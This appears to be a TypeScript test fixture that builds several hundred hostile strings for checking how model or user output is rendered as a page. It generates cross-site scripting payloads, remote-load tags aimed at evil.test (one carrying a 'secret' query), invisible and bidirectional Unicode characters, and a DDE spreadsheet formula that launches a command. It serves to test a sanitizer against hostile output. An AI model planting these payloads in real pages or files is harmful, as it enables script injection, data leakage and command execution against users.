/** What a hostile model or user writes: 300 texts and more that run, load or deceive where text is taken for a page. */
export function hostileTexts(): string[] {
  const scripts = [
    'hit()',
    'window.hit()',
    'parent.hit()',
    'top["hit"]()',
    'eval("hit()")',
    'setTimeout(hit)',
  ];
  const tags = [
    (js: string) => `<script>${js}</script>`,
    (js: string) => `<img src=x onerror=${js}>`,
    (js: string) => `<svg onload="${js}">`,
    (js: string) => `<svg><script>${js}</script></svg>`,
    (js: string) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
    (js: string) => `<a href="javascript:${js}">x</a>`,
    (js: string) => `[x](javascript:${js})`,
    (js: string) => `![x](javascript:${js})`,
    (js: string) => `<details open ontoggle=${js}>`,
    (js: string) => `<input autofocus onfocus=${js}>`,
    (js: string) => `<body onload=${js}>`,
    (js: string) => `<math href="javascript:${js}">x</math>`,
    (js: string) => `"><script>${js}</script>`,
    (js: string) => `</textarea><script>${js}</script>`,
    (js: string) => `{{constructor.constructor('${js}')()}}`,
    (js: string) => `\${${js}}`,
    (js: string) => `<style>@import 'javascript:${js}'</style>`,
    (js: string) => `<object data="javascript:${js}"></object>`,
    (js: string) => `<form action="javascript:${js}"><button>x</button></form>`,
    (js: string) => `data:text/html,<script>${js}</script>`,
  ];
  const places = ['http://evil.test/x', '//evil.test/x', 'https://evil.test/x?q=secret', 'ftp://evil.test/x'];
  const loads = [
    (url: string) => `![x](${url}.png)`,
    (url: string) => `![x][1]\n\n[1]: ${url}.png`,
    (url: string) => `<img src="${url}.png">`,
    (url: string) => `<link rel=stylesheet href="${url}.css">`,
    (url: string) => `<link rel=prefetch href="${url}">`,
    (url: string) => `<video src="${url}" autoplay></video>`,
    (url: string) => `<div style="background:url(${url})">x</div>`,
    (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
    (url: string) => `<base href="${url}">`,
    (url: string) => `[x](${url})`,
    (url: string) => `<${url}>`,
    (url: string) => `${url}`,
  ];
  const signs = [
    0x00, 0x07, 0x08, 0x1b, 0x7f, 0x9b, 0xad, 0x200b, 0x200e, 0x202e, 0x2028, 0x2066, 0xfeff, 0xe0041,
  ];
  return [
    ...scripts.flatMap((js) => tags.map((tag) => tag(js))),
    ...scripts.flatMap((js) => tags.map((tag) => tag(js).toUpperCase().replaceAll('HIT', 'hit'))),
    ...places.flatMap((url) => loads.map((load) => load(url))),
    ...signs.map((sign) => `before${String.fromCodePoint(sign)}after`),
    '```\n<script>hit()</script>\n```',
    '=cmd|"/C calc"!A0',
  ];
}
